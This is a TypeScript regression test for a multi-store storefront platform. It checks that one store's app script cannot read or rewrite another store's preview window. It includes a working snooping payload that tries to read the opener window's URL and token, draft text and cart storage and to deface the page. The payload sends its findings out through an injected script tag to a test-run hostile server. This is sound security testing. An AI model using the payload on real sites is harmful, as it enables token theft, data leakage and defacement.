import t, { type Test } from 'tap'
import { createServer } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { build, listen, registerUser, REVIEWER_ENV, until } from '../helper.ts'
import type { App } from '../../server/app.ts'
import { businessSlug, createPage, installApp, putEmbeds } from '../plugins/storefront/fixtures.ts'
import { hostileServer, launch, screenshot } from './browser.ts'

/**
 * An app's GLOBAL_SCRIPT on store A, opened from store B's preview (a link the merchant follows): it
 * tries what a shared storefront origin allowed (issue #25, item 5): read B's preview address (and so
 * its token), read B's unpublished draft, rewrite B's page, and read B's cart. It reports through a
 * script tag, the one channel the storefront's CSP leaves an embed.
 */
const SNOOP = (report: string) => `(() => {
  const tried = {}
  const attempt = (name, action) => { try { tried[name] = 'got: ' + String(action()).slice(0, 200) } catch (error) { tried[name] = 'blocked: ' + error.name } }
  attempt('href', () => window.opener.location.href)
  attempt('draft', () => window.opener.document.body.innerText)
  attempt('rewrite', () => { window.opener.document.body.innerHTML = '<h1>Defaced</h1>'; return 'rewritten' })
  attempt('cart', () => window.opener.localStorage.length)
  attempt('ownStorage', () => JSON.stringify(Object.keys(localStorage)))
  const send = document.createElement('script')
  send.src = ${JSON.stringify(report)} + '?tried=' + encodeURIComponent(JSON.stringify(tried))
  document.head.appendChild(send)
})()`

/** Plays the attack on `app` (listening) and returns what the script on store A reports. */
async function attack (t: Test, app: App) {
  const reports: Array<Record<string, string>> = []
  const hostileOrigin = await hostileServer(t, (url, origin) => {
    if (url.pathname === '/snoop.js') return { type: 'text/javascript', body: SNOOP(`${origin}/report`) }
    if (url.pathname === '/report') reports.push(JSON.parse(url.searchParams.get('tried') ?? '{}'))
    return url.pathname === '/report' ? { type: 'text/javascript', body: '' } : null
  })

  // store A runs the hostile script; store B has an unpublished draft its merchant previews
  const attacker = await registerUser(app, 'MERCHANT', { businessName: 'Attacker Goods' })
  const attackerSlug = await businessSlug(app, attacker)
  const hostileApp = await installApp(app, attacker, { embeds: [{ embedType: 'snoop', name: 'Snoop', kind: 'GLOBAL_SCRIPT', position: 'body_end', scriptUrl: `${hostileOrigin}/snoop.js` }] })
  t.equal((await putEmbeds(app, attacker, hostileApp.installed.installationId, { snoop: { enabled: true } })).statusCode, 200)
  await createPage(app, attacker, 'home', 'Attacker home')

  const victim = await registerUser(app, 'MERCHANT', { businessName: 'Victim Bakery' })
  const victimSlug = await businessSlug(app, victim)
  await createPage(app, victim, 'launch', 'Secret launch', false)
  const preview = await app.inject({ method: 'POST', url: '/merchant/pages/launch/preview', headers: victim.auth, payload: { blocks: [] } })
  t.equal(preview.statusCode, 200)
  const previewUrl = preview.json().previewUrl as string
  const victimOrigin = app.origins.storefrontOrigin(victimSlug)
  const attackerOrigin = app.origins.storefrontOrigin(attackerSlug)
  t.equal(new URL(previewUrl).origin, victimOrigin, "the preview is served on the victim store's own host")

  const browser = await launch(t)
  const context = await browser.newContext({ viewport: { width: 1100, height: 800 } })
  const page = await context.newPage()
  await page.goto(previewUrl)
  await page.getByText('Secret launch').first().waitFor()
  await page.evaluate(() => { localStorage.setItem('cart', '[{"productId":"prd_secret","quantity":2}]') })

  // the merchant follows a link from the preview to store A: a new window whose opener is B's page
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => { window.open(url) }, app.origins.storeUrl(attackerSlug))
  ])
  await opened.waitForLoadState('load')
  t.equal(new URL(opened.url()).origin, attackerOrigin, 'store A opened on its own host')
  await until(async () => reports.length, (n) => n > 0, 10_000)
  const tried = reports[0]
  return { tried, page, opened, victimOrigin, attackerOrigin }
}

t.test('a script on one store cannot reach another store’s preview, draft or storage', async (t) => {
  const app = await build(t, { env: REVIEWER_ENV })
  await listen(app)
  const { tried, page, opened, victimOrigin, attackerOrigin } = await attack(t, app)
  t.not(attackerOrigin, victimOrigin, 'the two stores have different origins by default')
  t.match(tried, { href: /^blocked: SecurityError$/, draft: /^blocked: SecurityError$/, rewrite: /^blocked: SecurityError$/, cart: /^blocked: SecurityError$/ },
    "every reach into the other store's window is refused")
  t.notMatch(JSON.stringify(tried), /preview=|Secret launch|prd_secret/, 'neither the token, the draft nor the cart leaked')
  t.notMatch(tried.ownStorage, /cart/, "store A's own storage does not hold B's cart")
  t.match(await page.locator('body').innerText(), /Secret launch/, "B's page was not rewritten")
  t.notMatch(await page.locator('body').innerText(), /Defaced/)
  await screenshot(opened, 'store-origins-attacker')
})

t.test('the same attack on one storefront origin for every store (the old default) gets everything', async (t) => {
  const free = createServer().listen(0, '127.0.0.1')
  await once(free, 'listening')
  const port = (free.address() as AddressInfo).port
  await new Promise((resolve) => free.close(resolve))
  const app = await build(t, { env: { ...REVIEWER_ENV, STOREFRONT_URL: `http://localhost:${port}` } })
  await app.listen({ port: 0, host: '127.0.0.1' })
  const storefront = createServer(app.storefront.handler).listen(port, '127.0.0.1')
  await once(storefront, 'listening')
  t.teardown(() => { storefront.close(); storefront.closeAllConnections() })
  const { tried } = await attack(t, app)
  t.match(tried, { href: /^got: .*preview=/, draft: /^got: [\s\S]*Secret launch/, rewrite: 'got: rewritten', cart: /^got: [1-9]/ },
    'the control: with a shared origin the script reads the token and the draft, rewrites the page and reads the cart')
})
